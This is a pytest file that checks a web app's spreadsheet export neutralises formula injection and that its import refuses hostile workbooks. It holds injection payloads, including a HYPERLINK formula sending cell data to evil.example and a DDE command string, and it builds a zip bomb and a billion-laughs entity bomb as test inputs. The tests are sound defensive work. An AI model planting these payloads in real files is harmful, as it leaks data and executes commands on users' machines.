"""Spreadsheets: formula injection neutralised on export, hostile workbooks refused on import."""

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from fengqiao.web.spreadsheets import (
    FORMULA_STARTS,
    SpreadsheetRejected,
    build_workbook,
    check_zip,
    open_workbook,
    safe_cell,
    workbook_bytes,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "  =1",
    "＝1+1",
]


def _reopen(book):
    return load_workbook(io.BytesIO(workbook_bytes(book))).active


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_typed_by_a_user_is_written_as_text(text):
    sheet = _reopen(build_workbook({"台账": (["标题"], [[text]])}))
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value.endswith(text.lstrip(" ")) and not cell.value.startswith(FORMULA_STARTS)


def test_ordinary_values_are_written_unchanged():
    row = ["张三", 42, -3.5, None, "邻里纠纷 = 小事"]
    sheet = _reopen(build_workbook({"台账": (["a", "b", "c", "d", "e"], [row])}))
    assert [cell.value for cell in sheet[2]] == row


@given(st.text())
def test_no_text_leaves_safe_cell_starting_like_a_formula(text):
    assert not str(safe_cell(text)).lstrip(" ").startswith(FORMULA_STARTS)


def _zip(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    out.seek(0)
    return out


def test_a_sound_workbook_opens():
    file = io.BytesIO(workbook_bytes(build_workbook({"台账": (["标题"], [["x"]])})))
    assert open_workbook(file).worksheets[0]["A2"].value == "x"


@pytest.mark.parametrize(
    "file, reason",
    [
        (io.BytesIO(b""), "不是有效"),
        (io.BytesIO(b"not a zip at all" * 100), "不是有效"),
        (io.BytesIO(b"PK\x03\x04" + b"\x00" * 200), "不是有效"),
        (_zip({"[Content_Types].xml": b"<x/>"}), "不是有效"),  # a zip, but not a workbook
        (_zip({"xl/worksheets/sheet1.xml": b"\x00" * (50 * 1024 * 1024)}), "压缩"),  # 50 MB of zeros
        (_zip({f"f{n}": b"" for n in range(3000)}), "部件过多"),
    ],
    ids=["empty", "text", "truncated-zip", "not-a-workbook", "zip-bomb", "many-members"],
)
def test_hostile_uploads_are_refused_with_a_reason(file, reason):
    with pytest.raises(SpreadsheetRejected) as refused:
        open_workbook(file)
    assert reason in refused.value.reason


def test_an_oversize_upload_is_refused_before_it_is_read():
    with pytest.raises(SpreadsheetRejected, match="过大"):
        check_zip(io.BytesIO(b"\x00" * 2048), max_bytes=1024)


def test_a_truncated_workbook_is_refused():
    whole = workbook_bytes(build_workbook({"台账": (["标题"], [["x"]] * 50)}))
    with pytest.raises(SpreadsheetRejected):
        open_workbook(io.BytesIO(whole[: len(whole) // 2]))


def test_an_entity_expansion_bomb_inside_a_workbook_does_not_blow_up():
    """Billion laughs in the shared strings: expat's amplification limit stops it."""
    whole = io.BytesIO(workbook_bytes(build_workbook({"台账": (["标题"], [["x"]])})))
    laughs = (
        '<!DOCTYPE s [<!ENTITY a "'
        + "a" * 10
        + '">'
        + "".join(f'<!ENTITY {chr(98 + n)} "' + f"&{chr(97 + n)};" * 10 + '">' for n in range(9))
        + "]>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                data = data.replace(b"<sst", laughs.encode() + b"<sst", 1).replace(b">x<", b">&j;<")
            target.writestr(item, data)
    out.seek(0)
    try:
        book = open_workbook(out)
        values = [cell for row in book.worksheets[0].iter_rows(values_only=True) for cell in row]
        assert all(len(str(value)) < 1_000_000 for value in values)
    except SpreadsheetRejected:
        pass
